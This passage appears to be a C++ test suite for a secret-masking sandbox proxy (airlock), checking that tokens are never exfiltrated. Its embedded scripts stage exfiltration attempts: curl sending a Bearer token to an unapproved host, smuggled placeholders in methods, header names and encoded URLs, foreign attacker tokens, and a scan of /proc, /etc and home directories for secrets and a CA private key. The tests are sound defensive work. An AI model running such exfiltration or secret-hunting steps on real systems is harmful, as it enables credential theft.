  // A trailer field: refused, or dropped on the way (the server's record
  // below decides).
  EXPECT_TRUE(is(res, "body-trailer", {"403 exfiltration -", "200 - other"}));
  for (const char* l : {"name-connect", "name-upper-connect"}) EXPECT_TRUE(is(res, l, {"connect-403 exfiltration"}));
  EXPECT_TRUE(is(res, "name-socks", {"socks-02"}));

  // What arrived: the real token at api.test (twice), nothing of the
  // placeholder anywhere, not even its random end.
  auto api = w().requests("api");
  ASSERT_EQ(api.size(), 2u) << w().log();
  for (const auto& h : api) EXPECT_EQ(h.header("Authorization"), "Bearer " + real);
  expect_never_arrived(ph.substr(ph.size() - 16));
  expect_never_arrived(real.substr(13), {"api"});
  // (A body is checked as it streams: a request whose body was refused may
  // have reached the server as a header and a body cut off before the
  // placeholder.)
  for (const auto& h : w().requests("other"))
    EXPECT_TRUE(h.path == "/x-ka-1" || h.path == "/x-trailer" || !h.complete) << h.line();
  for (const auto& h : w().requests("plain")) EXPECT_FALSE(h.complete) << h.line();

  // Each attempt is on record, on stderr and in the audit file, by name
  // but never by value.
  EXPECT_TRUE(contains(r.err, "refused as an exfiltration attempt"));
  int audited = 0;
  for (const auto& l : audit_lines(audit, /*strict=*/false)) audited += l.value("event", "") == "exfiltration";
  EXPECT_GE(audited, refusals + 4) << slurp(audit);
  EXPECT_TRUE(lacks(slurp(audit) + r.err + r.out, real.substr(13)));
}

// The less obvious places in a request: the method (any token is a method
// to an HTTP parser), a header's name, and the URL percent-encoded (the
// server decodes it back). (An earlier build looked at header values and
// the raw target only, and let all three through.)
TEST_F(TlsEscape, PlaceholdersInMethodsHeaderNamesOrEncodedUrlsAreRefused) {
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")})}}});
  auto r = t.py(s, std::string(kPorts) +
                       "enc = ''.join('%%%02X' % ord(c) for c in PH)\n"
                       "def o(raw): return https('other.test', B, raw)\n"
                       "run_all([\n"
                       "  ('method', o, req(PH, '/x-method', HB)),\n"
                       "  ('header-name', o, req('GET', '/x-header-name', HB, ['X-' + PH + ': 1'])),\n"
                       "  ('url-encoded', o, req('GET', '/x-encoded/' + enc, HB)),\n"
                       "])\n",
                ports({{"API_TOKEN", fake_secret("sk-ant-api03-", "REALgaps")}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"method", "header-name", "url-encoded"}) EXPECT_TRUE(is(res, l, {"403 exfiltration -"}));
  EXPECT_TRUE(w().requests("other").empty()) << w().log();
}

// In the URL of a request to its own host a placeholder is swapped only
// for a secret with injectInto ["query"]; any other one there is refused
// (URLs end up in logs and Referer headers). The swapped URL's echo comes
// back with the placeholder in place of the real value.
TEST_F(TlsEscape, PlaceholdersInTheUrlOnlyWhereInjectIntoQuerySaysSo) {
  std::string real = fake_secret("sk-ant-api03-", "REALheaderonly");
  std::string real_q = fake_secret("sk-proj-", "REALquery");
  json query = mask("QUERY_TOKEN", {hp("api")});
  query["injectInto"] = {"headers", "query"};
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")}), query}}});
  auto r = t.py(s, std::string(kPorts) +
                       "Q = os.environ['QUERY_TOKEN']\n"
                       "print('qph=' + Q)\n"
                       "def echo(path):\n"
                       "    s, err = tunnel('api.test', A)\n"
                       "    ts = wrap(s, 'api.test')\n"
                       "    ts.sendall(req('GET', path, HA))\n"
                       "    r = read_response(ts)\n"
                       "    return fmt(r) + ' ' + str(Q in r[2].decode())\n"
                       "run_all([\n"
                       "  ('query-ok', echo, '/q-ok?key=' + Q),\n"
                       "  ('header-only-in-query', https, 'api.test', A, req('GET', '/q-header-only?key=' + PH, HA)),\n"
                       "  ('header-only-in-path', https, 'api.test', A, req('GET', '/q-path/' + PH, HA)),\n"
                       "  ('query-to-other', https, 'other.test', B, req('GET', '/q-other?key=' + Q, HB)),\n"
                       "])\n",
                ports({{"API_TOKEN", real}, {"QUERY_TOKEN", real_q}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  std::string qph = value_of(r.out, "qph");
  ASSERT_EQ(qph.size(), real_q.size()) << r.out;
  EXPECT_TRUE(is(res, "query-ok", {"200 - api True"}));
  for (const char* l : {"header-only-in-query", "header-only-in-path"})
    EXPECT_TRUE(is(res, l, {"403 placeholder-in-url -"}));
  EXPECT_TRUE(is(res, "query-to-other", {"403 exfiltration -"}));
  auto api = w().requests("api");
  ASSERT_EQ(api.size(), 1u) << w().log();
  EXPECT_EQ(api[0].path, "/q-ok?key=" + real_q);
  expect_never_arrived(qph.substr(8));
  expect_never_arrived(real.substr(13));
  EXPECT_TRUE(lacks(r.out + r.err, real_q.substr(8)));
}

// onExfiltration "end": the first attempt kills the sandbox; what the
// command meant to do next never happens.
TEST_F(TlsEscape, OnExfiltrationEndStopsTheSandbox) {
  std::string real = fake_secret("sk-ant-api03-", "REALend");
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")})}}, {"onExfiltration", "end"}});
  auto r = t.sh(s,
                "curl -sS -o /dev/null -w 'before=%{http_code}\\n' -H \"Authorization: Bearer $API_TOKEN\" https://" + hp("api") + "/end-before\n"
                "curl -sS -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" https://" + hp("other") + "/end-exfil\n"
                "sleep 2\n"
                "echo after\n"
                ": > after-marker\n"
                "curl -sS -o /dev/null -H \"Authorization: Bearer $API_TOKEN\" https://" + hp("api") + "/end-after\n",
                {{"API_TOKEN", real}});
  EXPECT_NE(r.code, 0) << r.out << r.err;
  EXPECT_TRUE(contains(r.out, "before=200\n"));
  EXPECT_TRUE(lacks(r.out, "after\n"));
  EXPECT_FALSE(t.fx.tree.exists("ws/after-marker"));
  EXPECT_TRUE(contains(r.err, "onExfiltration"));
  std::set<std::string> paths;
  for (const auto& h : w().requests("api")) paths.insert(h.path);
  EXPECT_EQ(paths, (std::set<std::string>{"/end-before"})) << w().log();
  EXPECT_TRUE(w().requests("other").empty()) << w().log("other");
}

// ---------------------------------------------------------------------------
// Foreign credentials on verified hosts.

// A verified host takes the user's own masked credentials and nothing else
// in a credential header: an attacker's own token (as Bearer, x-api-key,
// Basic password, a header named in verifyHeaders, or beside the user's
// own) would turn an approved API into the attacker's drop box.
TEST_F(TlsEscape, ForeignTokensOnVerifiedHostsAreRefused) {
  std::string real = fake_secret("sk-ant-api03-", "REALverify");
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")})}},
                           {"verifyHosts", {hp("other")}},
                           {"verifyHeaders", {"X-My-Key"}}});
  auto r = t.py(s, std::string(kPorts) +
                       "bad = 'attacker-token-0123456789abcdef'\n"
                       "def a(path, headers): return https('api.test', A, req('GET', path, HA, headers))\n"
                       "run_all([\n"
                       "  ('own-bearer', a, '/own-bearer', ['Authorization: Bearer ' + PH]),\n"
                       "  ('own-basic', a, '/own-basic', ['Authorization: Basic ' + b64('x-access-token:' + PH)]),\n"
                       "  ('own-x-api-key', a, '/own-x-api-key', ['X-Api-Key: ' + PH]),\n"
                       "  ('no-credential', a, '/no-credential', []),\n"
                       "  ('bearer', a, '/foreign-bearer', ['Authorization: Bearer ' + bad]),\n"
                       "  ('token', a, '/foreign-token', ['Authorization: token ' + bad]),\n"
                       "  ('x-api-key', a, '/foreign-x-api-key', ['X-Api-Key: ' + bad]),\n"
                       "  ('private-token', a, '/foreign-private-token', ['PRIVATE-TOKEN: ' + bad]),\n"
                       "  ('x-goog-api-key', a, '/foreign-goog', ['x-goog-api-key: ' + bad]),\n"
                       "  ('basic', a, '/foreign-basic', ['Authorization: Basic ' + b64('user:' + bad)]),\n"
                       "  ('verify-header', a, '/foreign-verify-header', ['x-my-key: ' + bad]),\n"
                       "  ('beside-own', a, '/foreign-beside', ['Authorization: Bearer ' + PH, 'X-Api-Key: ' + bad]),\n"
                       "  ('second-auth', a, '/foreign-second', ['Authorization: Bearer ' + PH, 'Authorization: Bearer ' + bad]),\n"
                       "  ('verified-other', https, 'other.test', B, req('GET', '/foreign-other', HB, ['Authorization: Bearer ' + bad])),\n"
                       "  ('verified-other-own', https, 'other.test', B, req('GET', '/foreign-other-own', HB, ['Authorization: Bearer ' + PH])),\n"
                       "])\n",
                ports({{"API_TOKEN", real}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"own-bearer", "own-basic", "own-x-api-key", "no-credential"}) EXPECT_TRUE(is(res, l, {"200 - api"}));
  for (const char* l : {"bearer", "token", "x-api-key", "private-token", "x-goog-api-key", "basic", "verify-header",
                        "beside-own", "second-auth", "verified-other"})
    EXPECT_TRUE(is(res, l, {"403 foreign-credential -"}));
  // The user's own placeholder is bound to api.test only.
  EXPECT_TRUE(is(res, "verified-other-own", {"403 exfiltration -"}));

  expect_never_arrived("attacker-token");
  expect_no_path("", "foreign");
  std::map<std::string, Hit> by_path;
  for (const auto& h : w().requests("api")) by_path[h.path] = h;
  EXPECT_EQ(by_path.size(), 4u) << w().log();
  EXPECT_EQ(by_path["/own-bearer"].header("Authorization"), "Bearer " + real);
  EXPECT_EQ(by_path["/own-basic"].header("Authorization"), "Basic " + [&] {
    auto e = run_program({"/bin/sh", "-c", "printf %s " + sq("x-access-token:" + real) + " | base64 -w0"});
    return e.out;
  }());
  EXPECT_EQ(by_path["/own-x-api-key"].header("X-Api-Key"), real);
  EXPECT_TRUE(w().requests("other").empty()) << w().log("other");
}

// ---------------------------------------------------------------------------
// Nothing real inside.

// The real token, the real content of a masked file, a denied variable's
// value and the CA's private key are nowhere the command can look: not in
// its environment, not in any process's environ or cmdline, not in any
// readable file under /etc, /tmp, /run, $HOME or the workspace, and not in
// what a server echoes back (a response carrying the real value is turned
// back into the placeholder). The key file itself cannot be read.
TEST_F(TlsEscape, TheRealSecretAndTheCaKeyAreNowhereInside) {
  std::string real = fake_secret("sk-ant-api03-", "REALinside");
  std::string real_file = fake_secret("ghp_", "REALfileinside");
  std::string denied = fake_secret("xoxb-", "REALdenied");
  t.fx.tree.write("home/.config/corp-ca/ca.pem", slurp(w().pki().user_ca));
  t.fx.tree.write("home/.config/corp-ca/ca.key", slurp(w().pki().user_ca_key));
  t.fx.tree.write("home/.config/tok/token", real_file + "\n");
  // The key's private part in three spellings: a PEM line (the first
  // holds the start of the scalar), the raw scalar, and its hex.
  auto priv = run_program({"/bin/sh", "-c",
                           "openssl pkey -in " + sq(w().pki().user_ca_key) +
                               " -text -noout | sed -n '/^priv:/,/^pub:/p' | sed '1d;$d' | tr -d ' :\\n'"});
  if (priv.out.size() == 66 && priv.out.rfind("00", 0) == 0) priv.out.erase(0, 2);
  ASSERT_EQ(priv.out.size(), 64u) << priv.out << priv.err;
  std::istringstream pem(slurp(w().pki().user_ca_key));
  std::string pem_line;
  std::getline(pem, pem_line);
  std::getline(pem, pem_line);
  ASSERT_GE(pem_line.size(), 60u);
  std::string scalar;
  for (size_t i = 0; i < 64; i += 2) scalar.push_back(static_cast<char>(std::stoi(priv.out.substr(i, 2), nullptr, 16)));
  // Handed to the script reversed and hex-encoded: the needles themselves
  // must not be something the search could find.
  auto hidden = [](const std::string& s) {
    static const char* hex = "0123456789abcdef";
    std::string out;
    for (auto it = s.rbegin(); it != s.rend(); ++it)
      out += std::string{hex[static_cast<unsigned char>(*it) >> 4], hex[static_cast<unsigned char>(*it) & 15]};
    return out;
  };
  // A control: a string that is inside, in an ordinary file, must be found.
  std::string control = fake_secret("control-", "");
  t.fx.tree.write("home/control.txt", control + "\n");
  std::map<std::string, std::string> needles = {{"control", control},
                                                {"real-token", real.substr(13)},
                                                {"real-file", real_file.substr(4)},
                                                {"denied", denied.substr(5)},
                                                {"key-pem", pem_line.substr(30)},
                                                {"key-raw", scalar},
                                                {"key-hex", priv.out}};
  std::string py_needles = "NEEDLES = {\n";
  for (const auto& [k, v] : needles) py_needles += "  '" + k + "': bytes.fromhex('" + hidden(v) + "')[::-1],\n";
  py_needles += "}\n";

  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")}), {{"name", "DENIED_TOKEN"}, {"mode", "deny"}}}},
                           {"files", {{{"path", "~/.config/tok/token"}, {"mode", "mask"}, {"injectHosts", {hp("api")}}}}}},
                      {{"caCertPath", "~/.config/corp-ca/ca.pem"}, {"caKeyPath", "~/.config/corp-ca/ca.key"}});
  auto r = t.py(s, std::string(kPorts) + py_needles +
                       "import subprocess\n"
                       "fph = open(os.path.expanduser('~/.config/tok/token')).read().strip()\n"
                       "print('ph=' + PH)\n"
                       "print('fph=' + fph)\n"
                       "# The server echoes the real values (headers and body): keep what came back.\n"
                       "e = subprocess.run(['curl', '-sS', '-D', '-', 'https://' + HA + '/echo', '-H', 'Authorization: Bearer ' + PH,\n"
                       "                    '-H', 'X-File-Token: ' + fph], capture_output=True)\n"
                       "open('/tmp/echo.txt', 'wb').write(e.stdout)\n"
                       "open('echo.txt', 'wb').write(e.stdout)\n"
                       "print('echo-has-ph', e.stdout.count(PH.encode()), e.stdout.count(fph.encode()))\n"
                       "# The real value across the proxy's 16 KiB relay pieces.\n"
                       "for n in (16384 - 30, 16384 - 7, 32768 - 40):\n"
                       "    p = subprocess.run(['curl', '-sS', 'https://%s/pad?n=%d' % (HA, n), '-H', 'Authorization: Bearer ' + PH],\n"
                       "                       capture_output=True).stdout\n"
                       "    open('pad-%d.txt' % n, 'wb').write(p)\n"
                       "    print('pad-%d' % n, len(p) - n - 64 == len('Bearer ' + PH), p.count(PH.encode()))\n"
                       "k = subprocess.run(['cat', os.path.expanduser('~/.config/corp-ca/ca.key')], capture_output=True)\n"
                       "print('cat-key', k.returncode, len(k.stdout))\n"
                       "print('denied-env', 'DENIED_TOKEN' in os.environ)\n"
                       "found, searched = set(), 0\n"
                       "def look(where, data):\n"
                       "    for name, n in NEEDLES.items():\n"
                       "        if n in data:\n"
                       "            found.add(name + ' ' + where)\n"
                       "look('env', b'\\0'.join(k.encode() + b'=' + v.encode() for k, v in os.environ.items()))\n"
                       "for pid in os.listdir('/proc'):\n"
                       "    if pid.isdigit():\n"
                       "        for f in ('environ', 'cmdline'):\n"
                       "            try:\n"
                       "                look('/proc/%s/%s' % (pid, f), open('/proc/%s/%s' % (pid, f), 'rb').read())\n"
                       "            except OSError:\n"
                       "                pass\n"
                       "for top in ('/etc', '/tmp', '/run', os.path.expanduser('~'), os.getcwd()):\n"
                       "    for root, dirs, files in os.walk(top):\n"
                       "        for f in files:\n"
                       "            p = os.path.join(root, f)\n"
                       "            try:\n"
                       "                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > (4 << 20):\n"
                       "                    continue\n"
                       "                look(p, open(p, 'rb').read())\n"
                       "                searched += 1\n"
                       "            except OSError:\n"
                       "                pass\n"
                       "bundle = open('/etc/ssl/certs/ca-certificates.crt').read()\n"
                       "print('bundle-keys', bundle.count('PRIVATE KEY'))\n"
                       "print('searched', searched > 200)\n"
                       "for f in sorted(found):\n"
                       "    print('found', f)\n",
                ports({{"API_TOKEN", real}, {"DENIED_TOKEN", denied}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  std::string ph = value_of(r.out, "ph"), fph = value_of(r.out, "fph");
  ASSERT_EQ(ph.size(), real.size()) << r.out;
  ASSERT_EQ(fph.size(), real_file.size()) << r.out;
  std::string found;
  for (std::istringstream in(r.out); std::getline(in, found);) {
    if (found.rfind("found ", 0) == 0) {
      EXPECT_EQ(found.rfind("found control ", 0), 0u) << found;
    }
  }
  EXPECT_TRUE(contains(r.out, "found control " + t.fx.home + "/control.txt\n"));
  EXPECT_EQ(res["searched"], "True");
  EXPECT_EQ(res["bundle-keys"], "0");
  EXPECT_EQ(res["denied-env"], "False");
  EXPECT_TRUE(is(res, "cat-key", {"1 0"}));
  // The server did echo the real values; the sandbox got the placeholders
  // back in their place (in a header and in the body).
  auto api = w().requests("api");
  ASSERT_EQ(api.size(), 4u) << w().log();
  EXPECT_EQ(api[0].path, "/echo");
  EXPECT_EQ(api[0].header("Authorization"), "Bearer " + real);
  EXPECT_EQ(api[0].header("X-File-Token"), real_file);
  EXPECT_EQ(res["echo-has-ph"], "2 1") << t.fx.tree.read("ws/echo.txt");
  for (int n : {16384 - 30, 16384 - 7, 32768 - 40}) EXPECT_EQ(res["pad-" + std::to_string(n)], "True 1");
  // From the host: nothing real in what the command left behind either.
  for (const auto& f : t.fx.listing(t.fx.ws)) {
    std::string text = t.fx.tree.read("ws/" + f);
    for (const auto& [k, v] : needles) {
      if (k != "control") {
        EXPECT_TRUE(lacks(text, v)) << k << " in ws/" << f;
      }
    }
  }
  EXPECT_TRUE(lacks(r.out + r.err, real.substr(13)));
  EXPECT_TRUE(lacks(r.out + r.err, real_file.substr(4)));
  EXPECT_EQ(t.fx.tree.read("home/.config/tok/token"), real_file + "\n");
}

// A compressed response from a host a secret may have been sent to cannot
// be searched for the real value: airlock asks for none (Accept-Encoding is
// dropped) and refuses one that comes anyway. Elsewhere it passes.
TEST_F(TlsEscape, CompressedResponsesFromABoundHostAreRefused) {
  std::string real = fake_secret("sk-ant-api03-", "REALgzip");
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")})}}});
  auto r = t.py(s, std::string(kPorts) +
                       "gz = ['Accept-Encoding: gzip', 'Authorization: Bearer ' + PH]\n"
                       "run_all([\n"
                       "  ('bound', https, 'api.test', A, req('GET', '/gzip', HA, gz)),\n"
                       "  ('unbound', https, 'other.test', B, req('GET', '/gzip', HB, ['Accept-Encoding: gzip'])),\n"
                       "])\n",
                ports({{"API_TOKEN", real}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "bound", {"502 encoded-response -"}));
  EXPECT_TRUE(is(res, "unbound", {"200 - -"}));  // (a gzip body: no server name to read)
  auto api = w().requests("api");
  ASSERT_EQ(api.size(), 1u) << w().log();
  EXPECT_EQ(api[0].header("Accept-Encoding"), "");
  EXPECT_EQ(api[0].header("Authorization"), "Bearer " + real);
  EXPECT_TRUE(lacks(r.out + r.err, real.substr(13)));
}

// ---------------------------------------------------------------------------
// Upstream certificates.

// airlock's own connection to the server verifies it: a certificate from
// a CA nobody trusts, an expired one, or one for another name ends in 502
// upstream-certificate, told over the inspected TLS so the client can read
// it, and the server never gets a request (nor the real token bound to it).
TEST_F(TlsEscape, BadUpstreamCertificatesAreRefusedBeforeAnyRequest) {
  std::string real = fake_secret("sk-ant-api03-", "REALupstream");
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api"), hp("untrusted"), hp("expired"), hp("wrongname")})}}});
  auto r = t.py(s, std::string(kPorts) +
                       "def bad(name):\n"
                       "    port = int(os.environ['P_' + name])\n"
                       "    s, err = tunnel(name + '.test', port)\n"
                       "    if err: return err\n"
                       "    ts = wrap(s, name + '.test')\n"
                       "    ts.sendall(req('GET', '/badcert', '%s.test:%d' % (name, port), ['Authorization: Bearer ' + PH]))\n"
                       "    r = read_response(ts)\n"
                       "    return fmt(r) + ' | ' + r[2].decode().strip()\n"
                       "run_all([\n"
                       "  ('ok', https, 'api.test', A, req('GET', '/goodcert', HA, ['Authorization: Bearer ' + PH])),\n"
                       "  ('untrusted', bad, 'untrusted'),\n"
                       "  ('expired', bad, 'expired'),\n"
                       "  ('wrongname', bad, 'wrongname'),\n"
                       "])\n"
                       "import subprocess\n"
                       "c = subprocess.run(['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', '-D', '-',\n"
                       "                    'https://expired.test:' + os.environ['P_expired'] + '/badcert-curl'], capture_output=True, text=True)\n"
                       "print('curl', c.stdout.replace('\\r', '').replace('\\n', '|'))\n",
                ports({{"API_TOKEN", real}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "ok", {"200 - api"}));
  const std::map<std::string, std::string> why = {{"untrusted", "unable to get local issuer certificate"},
                                                  {"expired", "certificate has expired"},
                                                  {"wrongname", "hostname mismatch"}};
  for (const auto& [name, reason] : why) {
    EXPECT_TRUE(contains(res[name], "502 upstream-certificate - | airlock: " + name + ".test:" + port(name)));
    EXPECT_TRUE(contains(res[name], reason));
    for (const auto& h : w().hits(name)) EXPECT_NE(h.ev, "open") << "the handshake was completed: " << h.line();
    EXPECT_TRUE(w().requests(name).empty()) << w().log(name);
  }
  EXPECT_TRUE(contains(res["curl"], "X-Proxy-Error: upstream-certificate|"));
  EXPECT_TRUE(contains(res["curl"], "|502"));
  expect_never_arrived(real.substr(13), {"api"});
}

}  // namespace airlock::test
